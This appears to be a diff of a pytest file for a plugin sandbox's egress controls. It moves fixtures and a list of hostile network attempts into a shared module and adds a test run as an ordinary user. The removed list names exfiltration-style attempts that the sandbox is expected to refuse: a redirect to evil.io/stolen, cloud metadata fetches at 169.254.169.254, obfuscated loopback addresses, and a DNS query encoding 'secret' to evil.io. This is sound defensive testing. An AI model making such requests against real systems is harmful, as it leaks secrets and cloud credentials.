@@ -7,25 +7,21 @@ import os
 import shutil
 import socket
 import subprocess
-from concurrent.futures import ThreadPoolExecutor
-from dataclasses import dataclass, replace
+from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
-import grpc
 import pytest
-from cryptography.hazmat.primitives import serialization
-from cryptography.x509 import load_pem_x509_certificate
 
 from aperio_cli.errors.running import PluginCrashed
-from aperio_cli.host.way_out import Egress, stubs_of
-from aperio_cli.models.artifact import DevelopmentBuild, Project
-from aperio_cli.models.limits import LEAST, Limits
+from aperio_cli.host.way_out import Egress
+from aperio_cli.models.limits import LEAST
 from aperio_cli.running.learning import Learned
 from tests.certificates import make_certificate
-from tests.egress import PUBLIC, Elsewhere, Server, answer_http, read_head
+from tests.egress import PUBLIC, Elsewhere, Server, answer_http
 from tests.process.conftest import PLUGINS
-from tests.sandbox.conftest import MIB, acting
+from tests.sandbox.conftest import ORDINARY, ROOT_ONLY, acting, host_process
+from tests.sandbox.outside import OTHERS, REFUSED, beyond, connecting, key_pair
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -35,10 +31,6 @@ if TYPE_CHECKING:
     from tests.sandbox.conftest import Actor, Stage
 
 GO_PROGRAM = Path(__file__).with_name("go") / "fetch.go"
-EGRESS = ("api.box.com:443", "api.box.com:80", "rpc.box.com:443", "*.boxcloud.com:443")
-LIMITS = Limits(memory_bytes=768 * MIB, cpu=4.0, processes=128, open_files=256, tmp_bytes=8 * MIB)
-OTHERS = "93.184.216.50"
-PRIVATE = {"home": "127.0.0.1", "metadata": "169.254.169.254", "corp": "10.0.0.1"}
 
 
 @dataclass
@@ -63,36 +55,6 @@ class World:
         return self.actor.do(deed, *arguments)
 
 
-class _Echo(grpc.GenericRpcHandler):
-    def service(self, details: grpc.HandlerCallDetails) -> Any:
-        del details
-        return grpc.unary_unary_rpc_method_handler(lambda request, _context: b"said " + request)
-
-
-def lead_away(made: socket.socket) -> None:
-    """Answer with a redirect to a host that is not granted."""
-    if read_head(made):
-        made.sendall(
-            b"HTTP/1.1 302 Found\r\nLocation: https://evil.io/stolen\r\nContent-Length: 0\r\n"
-            b"Connection: close\r\n\r\n"
-        )
-
-
-def key_pair(pem: Path) -> tuple[bytes, bytes]:
-    data = pem.read_bytes()
-    key = serialization.load_pem_private_key(data, None)
-    form = (serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
-    certificate = load_pem_x509_certificate(data)
-    encoding = serialization.Encoding.PEM
-    return key.private_bytes(encoding, *form), certificate.public_bytes(encoding)
-
-
-def connecting(stage: Stage, **changes: Any) -> DevelopmentBuild:
-    build = stage.build(**({"egress": EGRESS, "limits": LIMITS} | changes))
-    script = build.script.with_name("connects.py")
-    return replace(build, script=script, project=Project(script.parent, build.project.manifest))
-
-
 @pytest.fixture(scope="module")
 def pem(stage: Stage, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A certificate for every name, and what the plugin trusts it by."""
@@ -106,35 +68,8 @@ def pem(stage: Stage, tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture(scope="module")
 def world(stage: Stage, sandbox: Sandbox, pem: Path) -> Iterator[World]:
-    calls = grpc.server(ThreadPoolExecutor(2), handlers=[_Echo()])
-    port = calls.add_secure_port("127.0.0.1:0", grpc.ssl_server_credentials([key_pair(pem)]))
-    calls.start()
-    outside, decided = Elsewhere(), list[Any]()
-    try:
-        with (
-            Server(answer_http, pem) as secure,
-            Server(lead_away, pem) as away,
-            Server(answer_http) as plain,
-            Server(answer_http) as closed,
-        ):
-            outside.serve("api.box.com", 443, secure.port)
-            outside.serve("evil.io", 443, secure.port)
-            outside.serve("eu.boxcloud.com", 443, secure.port)
-            outside.serve("away.boxcloud.com", 443, away.port, OTHERS)
-            outside.serve("rpc.box.com", 443, port, "93.184.216.35")
-            outside.ports[PUBLIC, 80] = plain.port
-            for name, address in PRIVATE.items():
-                outside.serve(f"{name}.boxcloud.com", 443, closed.port, address)
-            outside.names["twice.boxcloud.com"] = [[PUBLIC], ["127.0.0.1"]]
-            settings = {"base_url": f"http://localhost:{plain.port}"}
-            egress = Egress(
-                "acme", settings, stubs_of(settings), record=decided.append, outside=outside
-            )
-            outside.ports["127.0.0.1", plain.port] = plain.port
-            with acting(connecting(stage), sandbox, egress=egress) as actor:
-                yield World(actor, outside, decided, plain.port, closed.port)
-    finally:
-        calls.stop(None)
+    with beyond(pem) as there, acting(connecting(stage), sandbox, egress=there.egress) as actor:
+        yield World(actor, there.outside, there.decided, there.stub, there.closed)
 
 
 # ── through the door ──────────────────────────────────────────────────────────────────────────────
@@ -191,34 +126,6 @@ def test_a_second_hop_of_its_own_leads_where_the_first_may(world: World) -> None
 
 # ── not through it ────────────────────────────────────────────────────────────────────────────────
 
-REFUSED = [
-    (("get", "https://evil.io/"), "403 Refused by aperio: not-granted"),
-    (("get", "https://away.boxcloud.com/"), "403 Refused by aperio: not-granted"),  # to evil.io
-    (("client", "curl without a proxy", "https://evil.io/"), "Could not resolve host"),
-    (("client", "grpc", "evil.io:443"), "UNAVAILABLE"),
-    (("tunnel", "evil.io:443", "evil.io"), "HTTP/1.1 403 Refused by aperio: not-granted"),
-    (("tunnel", "api.box.com:8443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
-    (("tunnel", "93.184.216.34:443"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
-    (("tunnel", "169.254.169.254:80"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
-    (("tunnel", "2130706433:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
-    (("tunnel", "0x7f.1:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
-    (("tunnel", "[::1]:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
-    (("tunnel", "home.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
-    (("tunnel", "metadata.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
-    (("tunnel", "corp.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
-    (("relay", "evil.io:443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
-    (("tunnel", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
-    (("door", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
-    (("get", "http://169.254.169.254/latest/meta-data/"), "403"),
-    (("connect", "AF_INET", ["169.254.169.254", 80]), "ENETUNREACH"),
-    (("connect", "AF_INET", [PUBLIC, 443]), "ENETUNREACH"),
-    (("connect", "AF_INET6", ["2606:2800:220:1::1", 443]), "ENETUNREACH"),
-    (("connect", "AF_INET6", ["::ffff:93.184.216.34", 443]), "ENETUNREACH"),
-    (("connect", "AF_INET", [PUBLIC, 53], "SOCK_DGRAM"), "ENETUNREACH"),
-    (("ask_name_server", "8.8.8.8", "c2VjcmV0.evil.io"), "ENETUNREACH"),
-    (("ask_name_server", "127.0.0.53", "c2VjcmV0.evil.io"), "timed out"),
-]
-
 
 @pytest.mark.parametrize(("deed", "said"), REFUSED, ids=[str(deed) for deed, _ in REFUSED])
 def test_hostile_plugin_reaches_nothing_else(
@@ -228,6 +135,30 @@ def test_hostile_plugin_reaches_nothing_else(
     assert said in str(world.do(*deed))
     reached = set(world.outside.dialled[len(before) :])
     assert reached <= {(PUBLIC, 443), (OTHERS, 443)}, "a place was dialled that is not granted"
+
+
+@ROOT_ONLY
+def test_an_ordinary_users_hostile_plugin_reaches_nothing_else(
+    stage: Stage, sandbox: Sandbox, pem: Path, base: Path
+) -> None:
+    """Its door is opened in a namespace that the user owns; all else is the same."""
+    del sandbox
+    shutil.copy(pem, base / "server.pem")
+    (base / "server.pem").chmod(0o644)
+    reached = (("get", "https://api.box.com/a"), SAID)
+    rows = [reached, *REFUSED, reached]
+    deeds = [list(deed) for deed, _ in rows]
+    told = {"pem": str(base / "server.pem")}
+    process = host_process(stage, base, deeds, uid=ORDINARY, **told)
+    out, err = process.communicate("", timeout=240)
+    assert process.returncode == 0, err
+    done = json.loads(out.splitlines()[-1])["done"]
+    wrong = [
+        (deed, said, found)
+        for (deed, said), found in zip(rows, done, strict=True)
+        if said not in str(found)
+    ]
+    assert wrong == []
 
 
 def test_services_of_the_host_are_not_there(world: World) -> None:
